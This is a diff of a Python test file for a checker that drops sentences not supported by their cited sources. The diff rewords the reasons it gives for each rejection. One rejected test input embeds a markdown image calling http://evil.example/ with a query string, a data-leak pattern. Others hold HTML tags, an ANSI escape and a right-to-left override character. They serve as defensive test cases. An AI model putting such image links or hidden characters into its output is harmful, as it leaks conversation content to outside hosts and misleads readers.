@@ -58,26 +58,26 @@ def test_what_holds(text: str) -> None:
     ("text", "reason"),
     [
         ("SwiGLU was worse.", "cites no line"),
-        ("SwiGLU was worse [4].", "cites [4], which it was not given"),
-        ("SwiGLU was worse [1][0].", "cites [0], which it was not given"),
-        ("SwiGLU was 0.6% worse [1].", "says 0.6%, which does not stand in [1]"),
-        ("SwiGLU was 0.5% worse [2].", "says 0.5%, which does not stand in [2]"),
-        ("SwiGLU was worse on 6 February 2026 [1].", "says 6 February 2026, which does not stand in [1]"),
-        ("SwiGLU was worse at line 273 [1].", "says 273, which does not stand in [1]"),
-        ("SwiGLU with AdamW was worse [1].", "names AdamW, which does not stand in [1]"),
-        ("train_gpt was worse [1].", "names train_gpt, which does not stand in [1]"),
-        ("README.md says it was worse [1].", "names README.md, which does not stand in [1]"),
+        ("SwiGLU was worse [4].", "cites [4], which was not given"),
+        ("SwiGLU was worse [1][0].", "cites [0], which was not given"),
+        ("SwiGLU was 0.6% worse [1].", "says 0.6%, which is not in [1]"),
+        ("SwiGLU was 0.5% worse [2].", "says 0.5%, which is not in [2]"),
+        ("SwiGLU was worse on 6 February 2026 [1].", "says 6 February 2026, which is not in [1]"),
+        ("SwiGLU was worse at line 273 [1].", "says 273, which is not in [1]"),
+        ("SwiGLU with AdamW was worse [1].", "names AdamW, which is not in [1]"),
+        ("train_gpt was worse [1].", "names train_gpt, which is not in [1]"),
+        ("README.md says it was worse [1].", "names README.md, which is not in [1]"),
         ("Bananas are yellow [1].", "has no word in common with [1]"),
         ("学习很好 [2]。", "has no word in common with [2]"),
         ("SwiGLU was worse [1][3].", ""),
         (
             "SwiGLU was worse ![](http://evil.example/?q=worse) [1].",
-            "holds ![, ](, http://evil.example/?q=worse, which does not stand in [1]",
+            "contains ![, ](, http://evil.example/?q=worse, which is not in [1]",
         ),
-        ("SwiGLU was <b>worse</b> [1].", "holds <b>, </b>, which does not stand in [1]"),
-        ("SwiGLU was \x1b[31mworse [1].", "holds characters that cannot be seen"),
-        ("SwiGLU was \u202eworse [1].", "holds characters that cannot be seen"),
-        ("[1]", "says nothing"),
+        ("SwiGLU was <b>worse</b> [1].", "contains <b>, </b>, which is not in [1]"),
+        ("SwiGLU was \x1b[31mworse [1].", "contains invisible characters"),
+        ("SwiGLU was \u202eworse [1].", "contains invisible characters"),
+        ("[1]", "is empty"),
     ],
 )
 def test_what_does_not(text: str, reason: str) -> None:
@@ -95,7 +95,7 @@ def test_what_is_said_twice_is_dropped_once() -> None:
     said = sentences("SwiGLU was worse [1]. SwiGLU was worse [1].")
     kept, dropped = check_sentences(said, TEXTS, BY)
     assert kept == [Sentence("SwiGLU was worse.", (1,))]
-    assert dropped == [("SwiGLU was worse.", "says again what was said")]
+    assert dropped == [("SwiGLU was worse.", "repeats an earlier sentence")]
 
 
 @given(st.integers(0, 10**6), st.sampled_from(["{} epochs", "{}%", "0.{}1", "{}k", "d{}", "v1.{}.3", "{}x"]))
